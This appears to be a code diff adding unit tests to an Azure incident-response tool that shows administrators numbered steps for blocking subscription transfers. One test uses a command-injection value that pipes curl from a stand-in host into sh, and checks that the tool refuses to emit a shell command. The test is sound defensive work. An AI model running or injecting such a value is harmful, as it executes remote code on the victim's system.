@@ -3,6 +3,7 @@ import { describe, expect, it } from "vitest";
 import { auditCard, incidentCard, noticeCard, VERBS } from "../../src/cards/incident-card.js";
 import type { IncidentView } from "../../src/cards/incident-view.js";
 import { inventoryCard } from "../../src/cards/inventory-card.js";
+import { transferPolicySteps } from "../../src/respond/responders/transfer-policy-steps.js";
 import type { IncidentState } from "../../src/store/incidents-repo.js";
 import { cardTexts, reading } from "../helpers/adaptive-markdown.js";
 
@@ -146,6 +147,64 @@ describe("incident cards", () => {
     // Reasons are escaped for markdown (src/cards/markdown-text.ts): compare what a reader sees.
     expect(cardTexts(incidentCard(view("pending"))).map((t) => reading(t).shown)).toContain(
       "Not contained automatically: confidence 0.4 is under the automatic threshold 0.95",
+    );
+  });
+
+  it("numbers the steps a Global Administrator must take, as a reader sees them, the command whole", () => {
+    const policy = {
+      blockSubscriptionsLeavingTenant: true,
+      blockSubscriptionsIntoTenant: false,
+      exemptedPrincipals: [],
+    };
+    const base = view("partial", 1);
+    const asked: IncidentView = {
+      ...base,
+      actions: [
+        {
+          id: "inc-0123456789abcdef:block-subscription-transfer:tenant",
+          action: "block-subscription-transfer",
+          target: "tenant contoso",
+          changes: ["Block subscriptions from leaving the directory (was allowed)"],
+          state: "awaiting-admin",
+          outcome: "waiting for a Global Administrator: Microsoft lets only a Global Administrator ...",
+          administratorSteps: transferPolicySteps(policy, "block"),
+        },
+      ],
+    };
+    const card = incidentCard(asked);
+    expect(problems(card)).toEqual([]);
+    const shown = cardTexts(card).map((t) => reading(t).shown);
+    const at = shown.indexOf(
+      "A Global Administrator must do this (block-subscription-transfer; Warden may not):",
+    );
+    expect(at).toBeGreaterThan(0);
+    const steps = shown.slice(at + 1, at + 7);
+    expect(steps.map((s) => s.slice(0, 3))).toEqual(["1. ", "2. ", "3. ", "4. ", "5. ", "6. "]);
+    // The command a reader copies is the one Microsoft documents, with the policy body as JSON.
+    expect(steps[3]).toContain(
+      `az rest --method put --url "/providers/Microsoft.Subscription/policies/default?api-version=2021-10-01" --body '${JSON.stringify(policy)}'`,
+    );
+    // Once done, the steps are gone: the card shows them only while someone is asked.
+    const done = incidentCard({
+      ...asked,
+      actions: asked.actions.map((a) => ({ ...a, state: "done", administratorSteps: undefined })),
+    });
+    expect(JSON.stringify(done)).not.toContain("must do this");
+  });
+
+  it("gives no shell command when the policy's exempted principals are not all object ids", () => {
+    const steps = transferPolicySteps(
+      {
+        blockSubscriptionsLeavingTenant: true,
+        blockSubscriptionsIntoTenant: false,
+        exemptedPrincipals: ["x'; curl evil.example | sh; '"],
+      },
+      "block",
+    );
+    expect(steps.join("\n")).not.toContain("az rest --method put");
+    expect(steps.join("\n")).not.toContain("curl");
+    expect(steps).toContain(
+      "(No shell command: the policy's exempted principals are not all object ids; use the portal.)",
     );
   });
 
